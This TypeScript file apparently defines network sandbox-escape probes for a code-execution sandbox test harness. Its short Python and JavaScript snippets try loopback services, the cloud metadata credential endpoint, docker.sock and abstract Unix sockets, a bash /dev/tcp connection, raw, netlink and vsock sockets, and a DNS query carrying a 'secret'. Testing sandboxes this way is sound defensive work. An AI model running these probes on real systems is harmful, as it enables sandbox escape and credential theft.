import {
  type Attack,
  anyOf,
  javascript,
  python,
  reachedListener,
  saysEscaped,
  stoleSecret,
} from "../attack.ts";
import { METADATA_ADDRESS } from "../world/metadata-address.ts";

/** The network in every family, and the host's own sockets. */
export const NETWORK: readonly Attack[] = [
  {
    name: "asks the server that runs it",
    language: "python",
    quick: true,
    code: ({ serverPort }) => python`import urllib.request
if b"healthy" in urllib.request.urlopen("http://127.0.0.1:${serverPort}/health", timeout=2).read(): print("ESCAPED")`,
    escaped: saysEscaped,
  },
  {
    name: "asks the server that runs it from Node",
    language: "javascript",
    code: ({
      serverPort,
    }) => javascript`fetch("http://127.0.0.1:${serverPort}/health").then(async (response) => {
  if ((await response.text()).includes("healthy")) console.log("ESCAPED");
}, (error) => console.log(error.cause?.code))`,
    escaped: saysEscaped,
  },
  {
    name: "connects to a service on 127.0.0.1 (CVE-2024-29021, Judge0)",
    language: "python",
    code: ({ port }) => python`import socket
print(socket.create_connection(("127.0.0.1", ${port}), 2).recv(1000))`,
    escaped: anyOf(stoleSecret, reachedListener),
  },
  {
    name: "connects to a service on ::1",
    language: "python",
    code: ({ port }) => python`import socket
print(socket.create_connection(("::1", ${port}), 2).recv(1000))`,
    escaped: anyOf(stoleSecret, reachedListener),
  },
  {
    name: "sends a datagram",
    language: "python",
    code: ({ port }) => python`import socket, time
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", ${port}))
time.sleep(0.2)`,
    escaped: reachedListener,
  },
  {
    name: "sends a datagram from Node",
    language: "javascript",
    code: ({ port }) => javascript`const socket = require("dgram").createSocket("udp4");
socket.send("x", ${port}, "127.0.0.1", () => setTimeout(() => socket.close(), 200));`,
    escaped: reachedListener,
  },
  {
    name: "asks the cloud's metadata service for the machine's credentials",
    language: "python",
    quick: true,
    code: `import socket
socket.create_connection(("${METADATA_ADDRESS}", 80), 2)
print("ESCAPED")`,
    escaped: saysEscaped,
  },
  {
    name: "asks the cloud's metadata service from Node",
    language: "javascript",
    code: `const socket = require("net").connect({ host: "${METADATA_ADDRESS}", port: 80, timeout: 2000 });
socket.once("connect", () => { console.log("ESCAPED"); socket.destroy(); });
socket.once("timeout", () => socket.destroy()).once("error", (error) => console.log(error.code));`,
    escaped: saysEscaped,
  },
  {
    name: "speaks to a socket of the host that has a name and no path",
    language: "python",
    quick: true,
    code: ({ socketName }) => python`import socket
connection = socket.socket(socket.AF_UNIX)
connection.connect("\0${socketName}")
print(connection.recv(1000))`,
    escaped: anyOf(stoleSecret, reachedListener),
  },
  {
    name: "speaks to a socket of the host that has a name and no path from Node",
    language: "javascript",
    code: ({ socketName }) =>
      javascript`require("net").connect({ path: "\0${socketName}" }).on("data", (data) => console.log(String(data)))`,
    escaped: anyOf(stoleSecret, reachedListener),
  },
  {
    name: "speaks to a socket in a folder, as a container engine's (docker.sock)",
    language: "python",
    code: ({ socketPath }) => python`import socket
for path in ("${socketPath}", "/var/run/docker.sock", "/run/containerd/containerd.sock"):
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(path)
        print(connection.recv(1000))
    except OSError as error: print(error)`,
    escaped: anyOf(stoleSecret, reachedListener),
  },
  {
    name: "lists the sockets of the host and speaks to each",
    language: "python",
    code: ({ socketName }) => python`import socket
for line in open("/proc/net/unix").read().splitlines()[1:]:
    name = line.split(None, 7)[7:]
    if not name or "${socketName}" not in name[0]: continue
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(name[0].replace("@", "\0", 1))
        print(connection.recv(1000))
    except OSError as error: print(error)`,
    escaped: anyOf(stoleSecret, reachedListener),
  },
  {
    name: "has a shell connect (bash's /dev/tcp)",
    language: "javascript",
    code: ({ port }) =>
      javascript`console.log(require("child_process").execFileSync("bash", ["-c", "cat < /dev/tcp/127.0.0.1/${port}"], { encoding: "utf8" }))`,
    escaped: anyOf(stoleSecret, reachedListener),
  },
  {
    name: "opens a web socket",
    language: "javascript",
    code: ({ port }) =>
      javascript`new WebSocket("ws://127.0.0.1:${port}").onerror = () => console.log("error")`,
    escaped: reachedListener,
  },
  {
    name: "asks the kernel about its network (netlink; CVE-2022-25636 and more began there)",
    language: "python",
    code: `import socket
for protocol in (0, 12, 6, 16):
    try:
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
        print("ESCAPED", protocol)
    except OSError as error: print(error)`,
    escaped: saysEscaped,
  },
  {
    name: "listens to the wire (AF_PACKET; CVE-2017-7308)",
    language: "python",
    code: `import socket
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
print("ESCAPED")`,
    escaped: saysEscaped,
  },
  {
    name: "makes packets of its own (raw IP)",
    language: "python",
    code: `import socket
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
print("ESCAPED")`,
    escaped: saysEscaped,
  },
  {
    name: "speaks to the hypervisor (AF_VSOCK, which no network namespace holds)",
    language: "python",
    quick: true,
    code: `import socket
socket.socket(40, socket.SOCK_STREAM)
print("ESCAPED")`,
    escaped: saysEscaped,
  },
  {
    name: "has the kernel encrypt (AF_ALG)",
    language: "python",
    code: `import socket
socket.socket(38, socket.SOCK_SEQPACKET)
print("ESCAPED")`,
    escaped: saysEscaped,
  },
  {
    name: "tries every other family (bluetooth, CAN, TIPC, RDS, X.25, XDP)",
    language: "python",
    code: `import socket
for family in set(range(3, 46)) - {10}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            socket.socket(family, kind)
            print("ESCAPED", family)
        except OSError: pass`,
    escaped: saysEscaped,
  },
  {
    name: "finds a network card",
    language: "javascript",
    code: `for (const [name, addresses] of Object.entries(require("os").networkInterfaces())) {
  if (addresses.some(({ internal }) => !internal)) console.log("ESCAPED", name);
}`,
    escaped: saysEscaped,
  },
  {
    name: "sends out what it knows as a question for a name",
    language: "python",
    code: `import socket
servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
question = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07invalid\\x00\\x00\\x01\\x00\\x01"
for server in servers:
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    socket.socket(family, socket.SOCK_DGRAM).sendto(question, (server, 53))
    print("ESCAPED")`,
    escaped: saysEscaped,
  },
];
